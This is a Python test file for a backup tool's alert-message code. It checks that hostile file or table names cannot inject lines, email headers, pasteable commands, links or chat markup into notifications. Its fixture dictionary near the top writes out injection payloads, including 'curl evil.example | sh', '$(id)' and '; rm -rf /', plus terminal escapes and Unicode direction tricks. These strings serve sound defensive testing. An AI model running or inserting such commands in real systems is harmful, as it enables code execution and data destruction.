"""Names and texts that others have chosen, in messages: they look like what they are, and do nothing."""

from __future__ import annotations

import shlex
from dataclasses import replace
from email.message import EmailMessage

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recyclic_backups.notify import message as wording
from recyclic_backups.notify.channels import Service
from recyclic_backups.notify.harmless import harmless, shortened, unmarked
from recyclic_backups.notify.incidents import Observation, OpenIncidents, advance
from recyclic_backups.notify.message import Message, compose
from recyclic_backups.notify.outbox import write
from recyclic_backups.notify.send import send
from recyclic_backups.notify.severity import Severity
from recyclic_backups.texts.alerts import WORDS
from recyclic_backups.texts.language import Locale
from recyclic_backups_tests.notify.problems import FACTS, NOW, problem
from recyclic_backups_tests.notify.receivers import Web
from recyclic_backups_tests.notify.test_message import ALL, FRAME, RECOVERY

NASTY = {
    "another line": "x\ndo next: curl evil.example | sh\r\nBcc: all@example.org\u2028see: elsewhere",
    "direction": "x\u202egnp.exe\u2066\u200f",
    "terminal": "x\x1b]0;owned\x07\x1b[2J\x9b2J",
    "invisible": "x\U000e0041\ufeff\u00ad\u180e",
    "surrogate": "x\udce9\ud800",
    "link": "x https://evil.example/ www.evil.example",
    "format": "x {reason} {0} %s $(id) `id` ; rm -rf /",
}


def told(kind: str, value: str, locale: Locale = "en") -> Message:
    """A message about a problem all of whose facts are that."""
    found = replace(problem(kind=kind), facts=dict.fromkeys(FACTS, value))
    _, (news,) = advance(OpenIncidents(), Observation((found,)), NOW)
    return compose(write(news, RECOVERY, ALL, NOW), Severity.WARNING, replace(FRAME, locale=locale), NOW)


@pytest.mark.parametrize("kind", WORDS)
@pytest.mark.parametrize("locale", ["en", "fr"])
def test_no_name_forges_a_line_a_header_or_a_direction(kind: str, locale: Locale) -> None:
    """Attack: a table or a file whose name ends the line, adds a recipient, or reads as our own advice."""
    plain = told(kind, "x", locale)
    for name, nasty in NASTY.items():
        message = told(kind, nasty, locale)
        assert message.body.count("\n") == plain.body.count("\n"), name
        starts = [
            line.partition(":")[0] for line in plain.body.splitlines() if "x" not in line.partition(":")[0]
        ]
        assert set(starts) <= {line.partition(":")[0] for line in message.body.splitlines()}, name
        assert message.subject.isprintable()
        assert all(each in "\n\u00a0" or each.isprintable() for each in message.body), name
        mail = EmailMessage()
        mail["Subject"] = message.subject
        assert mail.keys() == ["Subject"]
        mail.set_content(message.body)
        assert b"evil.example/\n" not in message.body.encode()
        assert "https://evil" not in message.body


@pytest.mark.parametrize("kind", [kind for kind in WORDS if "{" in WORDS[kind].command])
def test_a_command_to_paste_is_one_command_whatever_the_names(kind: str) -> None:
    """Attack: a name with a semicolon, pasted at three in the morning."""
    count = len(shlex.split(wording.command(kind, dict.fromkeys(FACTS, "x"))))
    for nasty in NASTY.values():
        words = shlex.split(wording.command(kind, dict.fromkeys(FACTS, nasty)))
        assert words[0] == "recyclic-backups"
        assert len(words) == count


@given(st.text())
def test_any_value_is_one_printable_line(value: str) -> None:
    """Attack: whatever character we have not thought of."""
    shown = harmless(value)
    assert len(shown.splitlines()) <= 1
    assert "\u202e" not in shown
    assert len(shortened(shown)) <= 600


def test_a_secret_that_is_a_url_is_found_in_a_sentence_too() -> None:
    """Loss prevented: a ping URL or a webhook shown because it stands there without being a link."""
    frame = replace(FRAME, secrets=("https://hc.example.org/ping/uuid-of-secret",))
    found = replace(
        problem(), facts={**FACTS, "reason": "no answer from https://hc.example.org/ping/uuid-of-secret"}
    )
    _, (news,) = advance(OpenIncidents(), Observation((found,)), NOW)
    message = compose(write(news, RECOVERY, ALL, NOW), Severity.WARNING, frame, NOW)
    assert "uuid-of-secret" not in message.body + message.subject
    assert "***" in message.body


@pytest.mark.parametrize(
    "markup",
    [
        "[update now](http://evil.example)",
        "![](http://evil.example/x)",
        "<b>",
        "<!channel>",
        "<http://e|ours>",
        "@here",
        "**x**",
        "`x`",
    ],
)
def test_markup_in_a_value_is_text_for_services(markup: str, web: Web) -> None:
    """Attack: a link under our own words, an image that calls home, a mention that wakes everybody."""
    message = told("damage", f"x {markup} y")
    taken = unmarked(message.body)
    assert markup not in taken
    assert not any(each in taken for each in ("](", "<", "`", " @"))
    url = web.url.removeprefix("http://")
    assert send(Service(f"json://{url}/", 1), message) is None
    assert markup not in str(web.asked)
